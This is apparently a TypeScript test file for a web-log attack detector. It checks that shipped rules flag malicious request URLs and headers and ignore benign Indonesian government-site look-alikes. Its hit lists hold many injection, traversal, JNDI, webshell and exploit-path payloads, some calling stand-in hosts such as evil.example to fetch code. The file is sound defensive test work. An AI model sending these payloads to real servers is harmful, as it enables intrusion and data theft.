// Do the shipped rules find attacks in requests by any of their forms, and leave ordinary requests alone? Lines of our own.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks are written that way
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { detectionContent, SHIPPED_RULES } from '../../cli/worker/rules.ts'
import { createDetect } from '../../processors/detect/index.ts'
import { loadRules } from '../../processors/detect/sigma/load.ts'
import { setUrl } from '../../processors/parse/web/web.ts'
import type { Detection } from '../../schemas/detection.ts'
import { type Event, emptyEvent } from '../../schemas/event.ts'

const detect = createDetect(detectionContent(loadRules([SHIPPED_RULES])))

/** What is said of a web request, of level low or more. */
function on(fields: Partial<Event>): readonly Detection[] {
  const event = Object.assign(
    emptyEvent(),
    { dataset: 'nginx.access', event_category: 'web', http_method: 'GET' },
    fields,
  )
  return detect(event).filter(({ severity }) => severity !== 'informational')
}

/** A request target, or `status target`. */
function rulesOn(request: string): string[] {
  const [, status = '200', target = ''] = /^(?:(\d{3}) )?([\s\S]*)$/.exec(request) ?? []
  const event = emptyEvent()
  setUrl(event, target)
  return on({ url_original: target, url_path: event.url_path, http_status_code: Number(status) }).map(
    ({ title }) => title,
  )
}

const cases: Record<string, { hit: string[]; miss: string[] }> = {
  jndi_lookup: {
    hit: [
      '/?x=${jndi:ldap://198.51.100.1/a}',
      '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D',
      '/?x=${${lower:j}ndi:ldap://evil/a}',
      '/${${::-j}${::-n}di:rmi://evil}',
      '/?x=${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil/a}',
    ],
    miss: ['/?price=$5', '/?q=jndi', '/img/${name}.png', '/?x={jndi}'],
  },
  shellshock: { hit: ['/cgi-bin/status?x=()%20{%20:;};%20id', '/?x=(){:;}'], miss: ['/?f=foo()', '/?f=a(b){c}'] },
  sql_injection: {
    hit: [
      "/p?id=1'%20OR%20'1'='1",
      '/p?id=1+or+1=1',
      "/p?id=1'--+-",
      '/p?id=1%20UNION%20ALL%20SELECT%20NULL,NULL',
      '/p?id=1/**/union/**/select/**/user,2',
      '/p?id=1/*!50000union*//*!50000select*/1,2',
      '/p?id=-1+union+select+',
      '/p?id=1%2527%2520and%25201=1',
      '/p?id=1;drop%20table%20users',
      "/p?id=1');waitfor%20delay%20'0:0:5'--",
      '/p?id=1%20and%20sleep(5)',
      "/p?id=1'%20and%20extractvalue(1,concat(0x7e,version()))",
      '/p?t=information_schema.tables',
      '/p?x=(select%20password%20from%20users)',
      '/p?q=select%20*%20from%20users',
      '/p?id=1%20order%20by%2010--',
      "/p?id=1'%20order%20by%203",
      '/p?v=@@version',
      "/p?a=x'%20or%20'a'%20like%20'a",
      '/p?id=password::int',
      '/p?id=%uff07%20or%201=1',
      '/p?id=%ef%bc%87 or 1=1--',
      '/p?id=1%0Aunion%0Aselect%0A1,2',
      '/p?x=exec%20xp_cmdshell',
    ],
    miss: [
      '/cari?q=select+a+theme',
      '/cari?q=select+a+theme+from+our+list',
      '/blog/union-of-students',
      '/cari?q=union+select+committee',
      '/cari?q=covid+19+and+vaccine+in+indonesia',
      '/cari?q=2024+or+later',
      "/cari?q=o'brien",
      "/cari?q=jum'at+dan+sabtu",
      '/cari?q=%22pilkada%22+and+%22pemilu%22',
      '/berita?urut=order+by+tanggal',
      '/cari?q=drop+off+table',
      '/cari?q=sleep+(tidur)+sehat',
      '/p?id=1&order=asc&by=5',
      '/cari?q=c%23--+pemula',
      '/p?range=1-2--3',
      '/cari?q=insert+coin',
      '/cari?q=update+data+pemilih+2024',
      '/cari?q=delete+from+cart',
      '/v1/std::vector',
    ],
  },
  nosql_injection: {
    hit: ['/login?user[$ne]=x&pass[$ne]=x', '/find?q={%22$gt%22:%22%22}', '/find?q[%24regex]=.*'],
    miss: ['/harga?min=$5', '/find?q[ne]=1', '/odata?$in=5'],
  },
  cross_site_scripting: {
    hit: [
      '/?q=<script>alert(1)</script>',
      '/?q=%3Cscript%3E',
      '/?q=%253Cscript%253E',
      '/?q="><img src=x onerror=alert(1)>',
      '/?q=%22%20onmouseover=%22x',
      '/?q=javascript:alert(1)',
      '/?q=%3Csvg/onload=alert(1)%3E',
      '/?q=data:text/html;base64,x',
      '/?q=document.cookie;(1)',
      '/?q=<input',
      '/?q=<!--%23exec cmd="id"-->',
      '/?q=%3Cx%20onclick=y%3E',
      "/?q='-alert(1)-'",
      '/?q=\\x3cscript\\x3e',
    ],
    miss: [
      '/cari?q=script+kiddie',
      '/cari?q=a+%3C+b',
      '/js/javascript-tutorial',
      '/cari?q=onload+kapal',
      '/cari?q=5%3C10',
      '/img/alert.png',
      '/cari?q=data:+pemilih',
      '/?onerror=1',
    ],
  },
  path_traversal: {
    hit: [
      '/?f=../../../../etc/passwd',
      '/..%2f..%2f..%2fetc/passwd',
      '/%2e%2e/%2e%2e/boot.ini',
      '/..%252f..%252fwindows/win.ini',
      '/..%c0%af..%c0%af',
      '/?f=/etc/passwd',
      '/?f=..\\..\\windows\\system32',
      '/?f=....//....//x',
      '/?f=/proc/self/environ',
      '/manager/..;/html',
      '/WEB-INF/web.xml',
      '/a/..%5c..%5cb',
      '/x/%2e%2e/y',
    ],
    miss: [
      '/a/../b',
      '/berita/...dan-seterusnya',
      '/?next=../beranda',
      '/etc',
      '/proc',
      '/dokumen/etcetera',
      '/var-data',
      '/v1..v2/perubahan',
    ],
  },
  remote_file_inclusion: {
    hit: [
      '/?page=php://input',
      '/?page=php%3A%2F%2Ffilter/convert.base64-encode/resource=index',
      '/?page=http://198.51.100.7/shell',
      '/?page=http://evil.example/rfi.txt??',
      '/?url=http://169.254.169.254/latest/meta-data/',
      '/?url=gopher://127.0.0.1:6379/_',
      '/?f=file:///etc/hosts',
      '/?p=data:text/plain;base64,PD9waHA=',
    ],
    miss: [
      '/_next/image?url=https%3A%2F%2Fcdn.example.id%2Ffoto.jpg&w=640',
      '/login?redirect=https://sso.example.go.id/index.php',
      '/share?u=https://www.kpu.go.id/berita?id=1',
      '/profile://x',
      '/waktu?jam=10:30',
    ],
  },
  command_injection: {
    hit: [
      '/?ip=127.0.0.1;cat%20/tmp/x',
      '/?ip=1|id',
      '/?ip=1%26%26whoami',
      '/?ip=1%26cat%20x',
      '/?ip=$(curl%20evil)',
      '/?ip=`uname%20-a`',
      '/?x=wget%20http://evil/x.sh',
      '/?x=;rm+-rf+/tmp',
      '/?x=/bin/sh',
      '/?cmd=whoami',
      '/?x=cat$IFS/tmp/x',
      '/?x=1%0Acat%20y',
      '/?x=bash+-c+id',
      '/?x=powershell+-enc+AAAA',
      '/?x={cat,/tmp/x}',
    ],
    miss: [
      '/?a=1&id=5',
      '/?a=1&cat=berita',
      '/?fields=id|nama|alamat',
      '/?tags=php|python|perl',
      '/?q=echo+dot;+set+baru',
      '/jadwal;jsessionid=AB12',
      '/?q=R%26D+dan+inovasi',
      '/?q=tom+%26+jerry',
      '/cat/1',
      '/usr-guide',
      '/?cmd=simpan',
      '/?q=find;more',
      '/bin',
    ],
  },
  code_injection: {
    hit: [
      '/?c=<?php%20phpinfo();?>',
      "/?c=system('id')",
      '/?c=base64_decode(%22aWQ=%22)',
      '/?c=$_GET[1]',
      '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
      '/?x=__proto__[a]=b',
      "/?x=T(java.lang.Runtime).getRuntime().exec('id')",
      "/?x=''.__class__.__mro__",
      "/?x=require('child_process').exec('id')",
      '/?o=O:8:%22stdClass%22:1:{s:1:%22a%22;}',
      '/?allow_url_include=on',
    ],
    miss: [
      '/cari?q=sistem+(system)+informasi',
      '/cari?q=php+tutorial',
      '/classes/module',
      '/cari?q=fungsi+print_r',
      '/java.lang',
      '/cari?q=exec+(direktur)',
    ],
  },
  template_injection: {
    hit: ['/?n={{7*7}}', '/?n=%7B%7Bconfig.items()%7D%7D', '/?n=${7*7}', '/?n=<%=7*7%>', '/?n=%{(%23a)}', '/?n=#{7*7}'],
    miss: ['/img/{{foto}}', '/?n={nama}', '/?n=${nama}', '/?n=7*7', '/?n=%7B%22a%22:1%7D'],
  },
  header_injection: {
    hit: ['/?u=x%0d%0aSet-Cookie:%20a=b', '/?u=x%0aLocation:http://evil'],
    miss: ['/?pesan=baris%0Akedua', '/?u=Location:Jakarta', '/?pesan=kepada%0Ato%20all'],
  },
  ldap_xml_injection: {
    hit: [
      '/?u=*)(uid=*)',
      '/?u=admin)(|(password=*',
      '/?x=%3C!DOCTYPE%20a%20[%3C!ENTITY%20b%20SYSTEM%20%22x%22%3E]%3E',
    ],
    miss: ['/?q=(a)(b)', '/?q=rumus+f(x)=y', '/?x=%3C?xml%20version=%221.0%22?%3E'],
  },
  webshell: {
    hit: [
      '404 /c99.php',
      '/wp-content/uploads/2024/11/x.php',
      '/images/shell.php?cmd=id',
      '/alfa_data/x.php',
      '/wso.php',
      '/files/a/b/c.phtml',
      '/upload/cmd.jsp',
    ],
    miss: [
      '/wp-content/uploads/2024/11/foto.jpg',
      '/shell',
      '/images/logo.png',
      '/minimal/index.php',
      '/berita/angel.html',
      '/file/index.html?x=a.php',
    ],
  },
  sensitive_file: {
    hit: [
      '404 /.env',
      '/.env.production',
      '404 /.git/config',
      '/wp-config.php.bak',
      '/backup.zip',
      '/db.sql.gz',
      '/index.php~',
      '/phpinfo.php',
      '/.aws/credentials',
      '/storage/logs/laravel.log',
      '/config.yml',
      '/web.config',
      '/actuator/heapdump',
      '/dump.sql',
      '/.%65nv',
      '/app/.git/HEAD',
      '/server-status',
    ],
    miss: [
      '/environment',
      '/git/config',
      '/backup/jadwal',
      '/data/2024.csv',
      '/dataset/pemilih.zip',
      '/unduh/laporan.pdf',
      '/config.js',
      '/assets/config.json',
      '/index.php',
      '/debug',
      '/.well-known/security.txt',
      '/info',
    ],
  },
  exploit_path: {
    hit: [
      '404 /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/_ignition/execute-solution',
      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array',
      '/pages/doenterpagevariables.action',
      '/autodiscover/autodiscover.json?@evil.example/owa/',
      '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp',
      '/cgi-bin/luci/;stok=/locale',
      '/HNAP1/',
      '/GponForm/diag_Form?images/',
      '/shell?cd+/tmp',
      '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
      '/setup/setupadministrator.action',
      '/?XDEBUG_SESSION_START=phpstorm',
      '/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input',
      '/wls-wsat/CoordinatorPortType',
    ],
    miss: [
      '/vendor/jquery/jquery.min.js',
      '/setup',
      '/pages/tentang',
      '/owa/',
      '/cgi-bin/cari.cgi?q=a',
      '/wp-content/plugins/contact-form-7/style.css',
      '/function',
      '/shellfish',
      '/analytics/laporan',
    ],
  },
  cms_probe: {
    hit: [
      '404 /wp-login.php',
      '404 /xmlrpc.php',
      '403 /phpmyadmin/',
      '404 /administrator/index.php',
      '404 /pma/',
      '404 /adminer-4.8.1.php',
    ],
    miss: ['200 /wp-login.php', '200 /wp-content/themes/a/style.css', '404 /wpx', '404 /panama', '404 /administrasi'],
  },
  service_probe: {
    hit: [
      '404 /manager/html',
      '404 /solr/admin/info',
      '404 /dana-na/auth/url_default/welcome.cgi',
      '500 /boaform/admin/formLogin',
    ],
    miss: ['200 /manager/html', '200 /owa/auth/logon.aspx', '404 /manager', '404 /remote-sensing', '404 /console'],
  },
  user_enumeration: {
    hit: ['/?author=1', '/wp-json/wp/v2/users/1', '/?rest_route=/wp/v2/users'],
    miss: ['/?author=budi', '/wp-json/wp/v2/posts', '/buku?author=12'],
  },
  gambling_content: {
    hit: [
      '200 /slot-gacor-maxwin/',
      '200 /berita/situs-slot-terpercaya',
      '200 /?slot88',
      '200 /link-slot-gacor',
      '200 /produk/scatter-hitam',
    ],
    miss: [
      '404 /slot-gacor-maxwin/',
      '200 /antrean/slot-waktu',
      '200 /berita/situs-bersejarah',
      '200 /link-terkait',
      '200 /agen-perubahan',
      '200 /toto-tentrem',
    ],
  },
}

describe('attacks and probes', () => {
  it.each(Object.entries(cases).flatMap(([kind, { hit }]) => hit.map((request) => [kind, request] as const)))(
    '%s: %s',
    (_, request) => {
      expect(rulesOn(request)).not.toEqual([])
    },
  )
})

describe('look-alikes', () => {
  it.each(Object.entries(cases).flatMap(([kind, { miss }]) => miss.map((request) => [kind, request] as const)))(
    '%s: %s',
    (_, request) => {
      expect(rulesOn(request)).toEqual([])
    },
  )
})

describe('ordinary requests', () => {
  it.each([
    '/',
    '/favicon.ico',
    '/robots.txt',
    '/sitemap.xml',
    '/index.php',
    '/index.php?option=com_content&view=article&id=5&Itemid=101',
    '/wp-content/uploads/2024/11/pengumuman.pdf',
    '/wp-admin/admin-ajax.php',
    '/wp-includes/js/jquery/jquery.min.js?ver=3.7.1',
    '/wp-json/wp/v2/posts?per_page=5',
    '/berita/detail/1023/kpu-tetapkan-daftar-pemilih-tetap-pilkada-2024',
    '/api/v1/hasil?wilayah=31.71&halaman=3&urut=-suara',
    '/cari?q=hasil%20pemilu%202024',
    '/cari?q=syarat+dan+ketentuan+(lengkap)',
    '/cari?q=%22daftar+pemilih%22',
    '/cari?q=what%27s+new',
    '/dataset/pemilih?format=csv&fields=id,nama',
    '/api/3/action/package_search?q=pemilu&rows=10',
    '/assets/app.3f2a.js',
    '/static/css/main.8f1c.css',
    '/images/banner%20utama.png',
    '/foto/(1).jpg',
    '/file/unduh/12',
    '/storage/foto/a.jpg',
    '/oauth2/authorize?response_type=code&client_id=a&redirect_uri=https%3A%2F%2Fsso.go.id%2Fcb&scope=openid%20profile&state=abc',
    '/maps?ll=-6.2,106.8&z=12',
    '/kalender?from=2024-11-24T00:00:00%2B07:00',
    '/_next/static/chunks/main.js',
    '/user/login?next=/beranda',
    '/search?utm_source=x&utm_medium=y&fbclid=IwAR0_x-y',
    '/data/2024/tps.json',
    '/home/index.html',
    '/public/dokumen/surat-edaran.docx',
    '/config',
    '/manager',
    '/.well-known/acme-challenge/abc',
    '/.well-known/change-password',
    '/@vite/client',
    '/umum;v=1.2',
    '/id/beranda',
    '/en/about-us',
    '/jdih/peraturan?jenis=uu&nomor=7&tahun=2017',
    '/hitung-suara/dapil/3201?tps=001#x',
    '/kirim?pesan=Selamat%20pagi%21%20Apa%20kabar%3F',
    '/q?x=100%25',
    '/rumus?e=mc%5E2',
    '/?filter[status]=aktif&sort=-created_at',
    '/graphql?query=%7Bpemilu%7Bid%7D%7D',
    '/perkara?nomor=12/PHP.GUB-XXIII/2025',
    '/cari?q=C%2B%2B',
    '/cari?q=AT%26T',
    '/embed?url=https://www.youtube.com/watch?v=abc',
    '/%E2%9C%93/halaman',
    '/cari?q=%D8%A7',
  ])('raise nothing: %s', (target) => {
    expect(rulesOn(`200 ${target}`)).toEqual([])
  })
})

describe('headers', () => {
  it.each([
    ['user_agent_original', '${jndi:ldap://198.51.100.1/a}'],
    ['user_agent_original', '() { :; }; /bin/bash -c id'],
    ['user_agent_original', "Mozilla/5.0' AND SLEEP(5)-- -"],
    ['user_agent_original', '<script>alert(1)</script>'],
    ['http_referrer', '${jndi:dns://198.51.100.1}'],
    ['http_referrer', "https://a.example/?id=1'+or+'1'='1"],
    ['http_referrer', 'https://a.example/%3Cscript%3E'],
  ] as const)('%s: %s', (field, value) => {
    const fields = on({ url_original: '/', url_path: '/', http_status_code: 200, [field]: value }).map(
      (one) => one.field,
    )
    expect(fields).toContain(field === 'http_referrer' ? 'http.request.referrer.decoded' : 'user_agent.decoded')
  })

  it.each([
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Linux; U; Android 4.4.2; en-US; HM NOTE 1W Build/KOT49H) AppleWebKit/534.30',
    'Dalvik/2.1.0 (Linux; U; Android 13; SM-A536E Build/TP1A.220624.014)',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'curl/8.5.0',
    'Pemilu2024/1.0 CFNetwork/1408.0.4 Darwin/22.5.0',
    "Siti's iPhone/1.0",
    'Grabber/1.0',
  ])('an ordinary agent raises nothing: %s', (user_agent_original) => {
    expect(on({ user_agent_original })).toEqual([])
  })

  it.each([
    'https://www.google.com/search?q=hasil%20pemilu%202024',
    'https://www.kpu.go.id/cari?q=a+b',
    'android-app://com.google.android.gm/',
    'https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.kpu.go.id%2F&h=AT1',
    "https://a.example/o'brien",
  ])('an ordinary referrer raises nothing: %s', (http_referrer) => {
    expect(on({ http_referrer })).toEqual([])
  })

  it.each([
    'sqlmap/1.8',
    'Mozilla/5.0 (Nikto/2.5.0)',
    'Nuclei - Open-source project',
    'masscan/1.3',
    'WPScan v3',
    'Fuzz Faster U Fool v2',
    'gobuster/3.6',
  ])('an attack tool is one: %s', (user_agent_original) => {
    expect(on({ user_agent_original })).not.toEqual([])
  })
})

describe('hostile input', () => {
  it('never throws', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 300 }),
      fc.string({ maxLength: 300 }),
      fc.constantFrom('%'.repeat(400_000), '\ud800%', '('.repeat(50_000)),
    )
    fc.assert(
      fc.property(
        text,
        text,
        text,
        fc.integer(),
        (url_original, user_agent_original, http_referrer, http_status_code) => {
          const event = { url_original, url_path: url_original, user_agent_original, http_referrer, http_status_code }
          for (const { value, title } of on(event)) {
            expect(value.length).toBeLessThanOrEqual(200)
            expect(title).not.toBe('')
          }
        },
      ),
    )
  })

  const pieces = [
    '%25',
    'select (',
    "' or ",
    '../',
    '<a ',
    '${',
    '{{',
    'union select ',
    'if (',
    '1',
    'a',
    '/upload/',
    '=http://',
    ' ',
    '`a',
    ' wget -a',
    ';cat',
    'system(',
    '${lower:',
    '/*',
    '/*!',
    '/cgi-bin/',
    '(a',
    'convert (',
    'case when ',
    'data:',
    '/elfinder/',
    'insert into a',
    'style="',
    'o:1:"',
    'update a ',
    "'a",
    'select a,b ',
    'select ',
    '<a b="',
    "or 'a",
    '/wp-content/plugins/',
    '&',
    '[[',
    '\\x22',
    '%0a',
    '|',
    '$(',
    '"',
    '=',
    '-',
    '.php',
    '/images/a',
    '.',
    '__',
    '::',
    '/autodiscover/autodiscover.json?',
    '/components/com_a/',
    '(|(a=',
  ]
  it.each(pieces)('made of %j is read in time linear in its length', (piece) => {
    const url = (length: number) => `/?q=${piece.repeat(Math.ceil(length / piece.length))}`.slice(0, length)
    const time = (length: number): number => {
      const fields = { dataset: 'nginx.access', http_method: 'GET', url_original: url(length), url_path: url(length) }
      const event = Object.assign(emptyEvent(), fields)
      let best = Infinity
      for (let round = 0; round < 5; round++) {
        const start = performance.now()
        detect(event)
        best = Math.min(best, performance.now() - start)
      }
      return best
    }
    // Some tens of milliseconds on a quiet machine; a quadratic pattern would take minutes.
    expect(time(500_000)).toBeLessThan(2_000)
  })
})
